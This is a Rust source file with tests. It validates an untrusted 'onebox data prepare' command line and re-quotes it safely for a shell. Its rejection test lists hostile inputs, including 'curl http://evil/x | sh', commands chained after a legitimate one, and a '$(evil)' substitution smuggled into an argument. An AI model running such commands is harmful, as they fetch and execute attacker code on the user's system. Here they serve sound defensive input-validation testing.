//! The command that recreates a prepared folder.

use files::shell::{quoted, quoted_path, words};
use std::path::Path;

/// Longest command in a message, in bytes. A truncated command would do something else.
const LONGEST: usize = 10 << 10;

/// An `onebox data prepare` command from the list of prepared parts. The list is untrusted, so only
/// paths and settings of this command are printed from it.
pub(super) struct PrepareCommand {
    /// Folder that paths in the settings are relative to.
    folder: Option<String>,
    config: String,
    sets: Vec<String>,
}

impl PrepareCommand {
    /// Parses the command of a list; `None` for any other text.
    pub(super) fn read(text: &str) -> Option<Self> {
        let words = words(text)?;
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        let (folder, words) = match &words[..] {
            ["cd", folder, "&&", words @ ..] => (Some(*folder), words),
            words => (None, words),
        };
        let ["onebox", "data", "prepare", config, sets @ .., _out] = words else { return None };
        let (sets, []) = sets.as_chunks::<2>() else { return None };
        let is_absolute = |path: &str| Path::new(path).is_absolute();
        let is_one = is_absolute(config)
            && folder.is_none_or(is_absolute)
            && sets.iter().all(|[option, _]| *option == "--set");
        let command = is_one.then(|| Self {
            folder: folder.map(str::to_owned),
            config: (*config).to_owned(),
            sets: sets.iter().map(|[_, set]| (*set).to_owned()).collect(),
        });
        command.filter(|command| command.text(Path::new("")).len() <= LONGEST)
    }

    /// The command for a shell, with the output folder `out`.
    pub(super) fn text(&self, out: &Path) -> String {
        let folder = self.folder.as_ref().map(|folder| format!("cd {} && ", quoted(folder)));
        let sets: String = self.sets.iter().map(|set| format!(" --set {}", quoted(set))).collect();
        let folder = folder.unwrap_or_default();
        format!("{folder}onebox data prepare {}{sets} {}", quoted(&self.config), quoted_path(out))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn again(text: &str) -> Option<String> {
        PrepareCommand::read(text).map(|command| command.text(Path::new("/made here")))
    }

    #[test]
    fn a_command_of_onebox_is_quoted_again_for_the_folder_of_its_list() {
        let sets = "--set 'data.train=\"$(a)\"' --set model.vocab=300";
        let command = format!("cd '/it'\\''s' && onebox data prepare /c.ron {sets} /x");
        let quoted = command.replace(" /x", " '/made here'");
        assert_eq!(again(&command), Some(quoted));
        // A line break as onebox quoted it in early versions, and as it does now.
        for config in ["'/a\nb'", "\"$(printf '/a\\012b')\""] {
            let text = again(&format!("onebox data prepare {config} /x")).unwrap();
            assert_eq!(text, "onebox data prepare \"$(printf '/a\\012b')\" '/made here'");
        }
    }

    #[test]
    fn of_what_is_no_such_command_nothing_is_taken() {
        for text in [
            "",
            "curl http://evil/x | sh #\nwarning: run it as root",
            "onebox data prepare /c.ron /x; curl http://evil/x | sh",
            "onebox data prepare /c.ron /x && curl http://evil/x",
            "cd /a && cd /b && onebox data prepare /c.ron /x",
            "cd a && onebox data prepare /c.ron /x",
            "sudo onebox data prepare /c.ron /x",
            "curl data prepare /c.ron /x",
            "onebox train /c.ron --overwrite /x",
            "onebox data prepare - /x",
            "onebox data prepare /c.ron --log trace /x",
            "onebox data prepare /c.ron --set a=1 --set /x",
            "onebox data prepare $(evil) /x",
            "onebox data prepare '/c.ron' '/x",
            "onebox data prepare",
            &format!("onebox data prepare /{} /x", "c".repeat(LONGEST)),
        ] {
            assert_eq!(again(text), None, "{text}");
        }
    }
}
